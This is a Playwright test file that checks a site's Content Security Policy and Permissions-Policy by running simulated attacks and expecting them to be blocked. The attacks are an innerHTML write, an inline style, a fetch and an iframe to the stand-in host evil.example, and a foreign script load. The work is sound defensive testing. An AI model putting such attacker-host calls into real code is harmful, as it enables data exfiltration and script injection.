import { readdir, readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { expect, type Page } from '@playwright/test'
import { test } from './fixtures'

test.describe('the policy of the built site', () => {
  test.use({ expectedProblems: /policy violation|console error|another origin/ })

  const attacks: readonly (readonly [string, (page: Page) => Promise<unknown>, RegExp])[] = [
    ['text written as HTML', (page) => page.evaluate(writeHtml), /require-trusted-types-for/],
    ['an inline style', (page) => page.evaluate(addStyleElement), /style-src/],
    ['data sent elsewhere', (page) => page.evaluate(sendElsewhere), /connect-src/],
    ['a frame', (page) => page.evaluate(addFrame), /frame-src/],
  ]
  for (const [name, attack, report] of attacks) {
    test(`stops ${name}, and these tests see it`, async ({ page, problems }) => {
      await page.goto('/')
      await attack(page)
      await expect.poll(() => problems.join('\n')).toMatch(report)
    })
  }

  test('stops a script of another origin', async ({ page }) => {
    await page.goto('/')
    await expect(page.evaluate(addForeignScript)).rejects.toThrow('refused script')
  })
})

test('the browser knows every permission that is spoken of', async ({ page }) => {
  const answer = await page.goto('/')
  const spoken = answer?.headers()['permissions-policy']?.match(/[a-z-]+(?==)/g) ?? []
  const known = await page.evaluate(knownPermissions)
  expect(spoken.length).toBeGreaterThan(10)
  expect(spoken.filter((name) => !known.includes(name))).toEqual([])
})

test('no test wallet is in what is shipped', async () => {
  const files = (await readdir('out', { recursive: true })).filter((file) =>
    /\.(js|html|txt)$/.test(file),
  )
  const texts = await Promise.all(files.map((file) => readFile(join('out', file), 'utf8')))
  expect(files.length).toBeGreaterThan(10)
  expect(texts.filter((text) => /__unisat|__keplr|__reportViolation/.test(text))).toEqual([])
})

/** Chromium's own list, not in TypeScript's. */
function knownPermissions() {
  const policy = Reflect.get(document, 'featurePolicy') as { features(): string[] }
  return policy.features()
}

function writeHtml() {
  try {
    document.body.innerHTML = '<b>owned</b>'
  } catch {
    return
  }
  throw new Error('it was written')
}

function addForeignScript() {
  document.createElement('script').src = 'https://evil.example/_next/static/a.js'
}

function addStyleElement() {
  const style = document.createElement('style')
  style.textContent = 'body { display: none }'
  document.head.append(style)
}

async function sendElsewhere() {
  await fetch('https://evil.example/').catch(() => undefined)
}

function addFrame() {
  const frame = document.createElement('iframe')
  frame.src = 'https://evil.example/'
  document.body.append(frame)
}
